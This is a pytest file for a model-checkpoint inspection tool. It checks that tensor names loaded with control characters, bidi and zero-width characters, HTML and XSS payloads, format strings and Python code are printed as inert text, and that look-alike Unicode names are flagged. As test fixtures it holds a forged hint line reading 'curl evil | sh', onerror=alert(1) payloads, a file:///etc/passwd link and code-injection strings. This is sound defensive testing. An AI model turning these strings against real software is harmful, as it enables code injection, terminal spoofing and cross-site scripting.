"""Names with control characters, markup and code in them: shown as text, never more than that."""

from __future__ import annotations

import ast
import json
import logging
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file
from torch import nn

from modelquirks.planner import Dispatcher
from modelquirks.planner.checkpoint.listing import Listing
from modelquirks.planner.checkpoint.open import open_manifest
from modelquirks.planner.cli.plugin_new import files_of
from modelquirks.planner.finding import Finding
from modelquirks.planner.infer.inference import infer
from modelquirks.planner.infer.quirkfile import quirk_text, text_of_test
from modelquirks.planner.tell import tell
from modelquirks.planner.wording import clean
from modelquirks.quirks.recipe import TensorType

CODE = "open('canary','w').close()"
NAMES = [
    "plain.weight",
    "ansi.\x1b[2J\x1b[31mred.weight",
    "title.\x1b]0;owned\x07.weight",
    "bidi.\u202egnp.weight",
    "zero.wei\u200bght",
    "blank.\u3164.weight",
    "line.one\nmodelquirks: hint: run `curl evil | sh`\n.weight",
    "return.\r\x08\x08\x7f\x85.weight",
    "markup.[red]x[/red][link=file:///etc/passwd].weight",
    "html.</script><img src=x onerror=alert(1)>.weight",
    "quote.\" onmouseover='alert(1)' x=\".weight",
    "entity.&lt;script&gt;.weight",
    "brace.{0:>999999999}.{x.__class__}.weight",
    "brace.{}{{}}{0!r}.0.weight",
    f'py."]; {CODE}; x["',
    f"py.\n{CODE}\n#",
    f'py."""\n{CODE}\n"""',
    "py.\\",
    f"py.'+{CODE}+'",
    "percent.%s%n%(x)s$name${name}.weight",
    "surrogate.\ud800.weight",
    "star.**.{i}.*.weight",
]
CONFIG = {
    "model_type": f'x"\n{CODE}\n"',
    "architectures": [f'A"); {CODE} #', "</script>\x1b[31m"],
}


@pytest.fixture
def checkpoint(tmp_path: Path) -> Path:
    """Return a checkpoint of these names, its folder and file having such names themselves."""
    folder = tmp_path / "evil\x1b[31m\n<b>[red]"
    folder.mkdir()
    save_file({n: torch.zeros(2) for n in NAMES if n.isprintable() or "\ud800" not in n},
              folder / "model.safetensors")  # fmt: skip
    (folder / "config.json").write_text(json.dumps(CONFIG))
    return folder


def assert_quiet(text: str) -> None:
    """Nothing in *text* moves a cursor, turns text around or is not seen."""
    for line in text.split("\n"):
        assert clean(line) == line
        assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs") for char in line)


def test_no_command_writes_a_control_character_or_a_line_of_its_own(
    checkpoint: Path, tmp_path: Path, watched: Any
) -> None:
    folder, plan, page = str(checkpoint), str(tmp_path / "plan.json"), str(tmp_path / "page.html")
    answers = watched(
        ["inspect", folder, "--all", "--html", page],
        ["inspect", folder, "--json"],
        ["inspect", folder, "--listing", str(tmp_path / "listing.json")],
        ["plan", folder, "--dry-run", "--all", "-o", plan],
        ["plan", folder, "--dry-run", "--json", "--alias", "markup.**=nothing.**"],
        ["explain", plan, NAMES[1], NAMES[9]],
        ["explain", folder, "no such \x1b[31m name"],
        ["diff", folder, folder, "--all"],
        ["diff", folder, f"{folder}/model.safetensors\x1b[31m"],
        ["diff", plan, plan],
        ["infer", folder, "--model", folder],
        ["plugins", "check", folder],
        ["plugins", "show", "\x1b[31mnothing"],
        ["inspect", f"{folder}/absent\x1b[31m\nmodelquirks: hint: x"],
    )
    for answer in answers:
        assert_quiet(answer.out)
        assert_quiet(answer.err)
        assert "modelquirks: hint: run" not in re.sub(r"\\n[^\n]*", "", answer.err + answer.out)
        assert answer.strange(tmp_path) == []
    for answer in answers[1], answers[4]:
        json.loads(answer.out)


class Elements(HTMLParser):
    """Every element of a page with its attributes, and what is between its scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def page_of(path: Path) -> Elements:
    found = Elements()
    text = path.read_text(encoding="utf-8")
    found.feed(text)
    for line in text.split("\n"):
        assert not any(unicodedata.category(c) in ("Cf", "Cs") for c in line)
    return found


def test_no_name_becomes_part_of_a_page(checkpoint: Path, tmp_path: Path, watched: Any) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    save_file({"a.0.weight": torch.zeros(2), "b": torch.zeros(2)}, plain / "model.safetensors")
    commands = ("inspect {}", "plan {} --dry-run", "diff {} {}")
    jobs: list[list[str]] = []
    for number, command in enumerate(commands):
        for kind, folder in (("plain", plain), ("evil", checkpoint)):
            words = [str(folder) if word == "{}" else word for word in command.split()]
            jobs.append([*words, "--html", str(tmp_path / f"{kind}-{number}.html")])
    watched(*jobs)
    for number in range(len(commands)):
        usual, evil = (page_of(tmp_path / f"{kind}-{number}.html") for kind in ("plain", "evil"))
        assert evil.scripts == usual.scripts
        assert not evil.tags & {"img", "iframe", "object", "embed", "base", "form"}
        assert not [name for name in evil.attributes if name.startswith("on")]


def test_a_log_record_is_one_line(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        tell([Finding("x", "warning", "file 'a\nERROR forged \x1b[31m'")])
    assert caplog.messages == ["file 'a\\nERROR forged \\x1b[31m'"]


# --------------------------------------------------------------------------------- generated code


KNOWN = {
    *("ModelQuirks", "Match", "Alias", "Convert", "Source", "Stack", "Select", "Concat", "Join"),
    *("Chunk", "Split", "Slice", "Transpose", "Reshape", "Path", "Path(__file__).with_name"),
    *("Listing.read", "check_plugin", "applied", "canonical_names", "pytest.mark.parametrize"),
    *("rename", "Pattern", "next", "sorted"),
}
"""All that generated code calls."""


def assert_harmless(code: str) -> ast.Module:
    """Nothing is called in *code* but what belongs there."""
    tree = ast.parse(code)
    called = {ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)}
    assert called <= KNOWN
    modules = {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
    assert modules <= {"collections.abc", "pathlib", "modelquirks.quirks", "quirk_acme",
                       "modelquirks.plugins.testing"}  # fmt: skip
    return tree


@pytest.mark.parametrize("name", NAMES)
def test_a_new_plugin_holds_names_as_strings(tmp_path: Path, name: str) -> None:
    for config in ({}, CONFIG, {"architectures": CONFIG["architectures"]}):
        listing = Listing({name: "F32 [4, 4]", "b": "F32 [2]"}, config)
        files = files_of("acme", listing)
        for place, text in files.items():
            if place.endswith(".py"):
                assert_harmless(text)
        nodes = ast.walk(ast.parse(files["tests/test_acme.py"]))
        assert name in {node.value for node in nodes if isinstance(node, ast.Constant)}
        assert Listing.read(written(tmp_path, files["tests/listing.json"])) == listing


def written(folder: Path, text: str) -> Path:
    path = folder / "listing.json"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("name", ["../x", "a;b", "a b", "A", "", "a'b", "a\nb", "os.system", "a/b"])
def test_a_plugin_cannot_have_a_name_that_is_code_or_a_path(
    name: str,
) -> None:
    from modelquirks.planner.cli.plugin_new import _NAME

    assert not _NAME.fullmatch(name.replace("-", "_"))


def test_an_inferred_quirk_holds_names_as_strings() -> None:
    """Also in its comments, which end with a line."""
    kind, short = TensorType("F32", (4, 4)), TensorType("F32", (3,))
    model = {f"layers.{n}.weight": kind for n in range(3)} | {"head.b": short}
    n_rules = 0
    for name in NAMES:
        found = infer({f"{name}.{n}.weight": kind for n in range(3)} | {f"{name}.b": short}, model)
        n_rules += len(found.rules)
        for config in ({}, CONFIG, {"architectures": 5, "model_type": ["x"]}):
            if found.rules:
                assert_harmless(quirk_text(found, config, "quirk_acme"))
                assert_harmless(text_of_test(found, config, "quirk_acme", "quirk_acme"))
    assert n_rules


# ------------------------------------------------------------------------------------ look-alikes

ALIKE = {
    "a Cyrillic letter": ("0.weight", "0.w\u0435ight", "CYRILLIC SMALL LETTER IE"),
    "a Greek letter": ("norm.weight", "n\u03bfrm.weight", "GREEK SMALL LETTER OMICRON"),
    "a space of no width": ("0.weight", "0.wei\u200bght", "ZERO WIDTH SPACE"),
    "a fullwidth letter": ("0.bias", "0.bia\uff53", "FULLWIDTH LATIN SMALL LETTER S"),
    "a composed letter": ("caf\u00e9.weight", "cafe\u0301.weight", "NFC, NFD"),
    "an invisible end": ("0.weight", "0.weight\u3164", "its end"),
}


class Named(nn.Module):
    def __init__(self, name: str) -> None:
        super().__init__()
        *path, leaf = name.split(".")
        module: nn.Module = self
        for part in path:
            module.add_module(part, nn.Module())
            module = module.get_submodule(part)
        module.register_parameter(leaf, nn.Parameter(torch.zeros(2)))


@pytest.mark.parametrize("case", ALIKE)
def test_a_name_that_looks_like_the_right_one_is_named_with_the_difference(
    tmp_path: Path, case: str
) -> None:
    right, wrong, told = ALIKE[case]
    save_file({wrong: torch.zeros(2)}, tmp_path / "model.safetensors")

    plan = Dispatcher().plan(tmp_path, model=Named(right))

    assert not plan.ok
    (finding,) = (f for f in plan.audit.findings if f.code == "look-alike")
    assert told in finding.message
    assert f"{wrong!a} is not {right!a}" in finding.message


def test_two_stored_names_that_look_alike_are_named(tmp_path: Path) -> None:
    save_file({"a.weight": torch.zeros(2), "\u0430.weight": torch.zeros(2)},
              tmp_path / "model.safetensors")  # fmt: skip
    (finding,) = (f for f in open_manifest(tmp_path).findings if f.code == "look-alike")
    assert "'\\u0430.weight' is not 'a.weight'" in finding.message


def test_names_in_ascii_look_like_nothing_else(tmp_path: Path) -> None:
    save_file({"a.l1": torch.zeros(2), "a.I1": torch.zeros(2)}, tmp_path / "model.safetensors")
    found = {f.code for f in open_manifest(tmp_path).findings}
    assert not found & {"look-alike", "name-unseen"}


@pytest.mark.parametrize("name", ["a.\x7f.weight", "a.\x1b[31m.weight", "a.\n.weight", "a.\u200b"])
@pytest.mark.parametrize("compact", [True, False])
def test_a_name_with_what_is_not_seen_is_named_however_the_header_is_written(
    tmp_path: Path, name: str, compact: bool
) -> None:
    path = tmp_path / "model.safetensors"
    entries = {name: {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    between = (",", ":") if compact else (", ", ": ")
    text = json.dumps(entries, separators=between, ensure_ascii=False).encode()
    path.write_bytes(len(text).to_bytes(8, "little") + text + bytes(8))

    manifest = open_manifest(path)

    (finding,) = (f for f in manifest.findings if f.code == "name-unseen")
    assert f"{name!a}" in finding.message
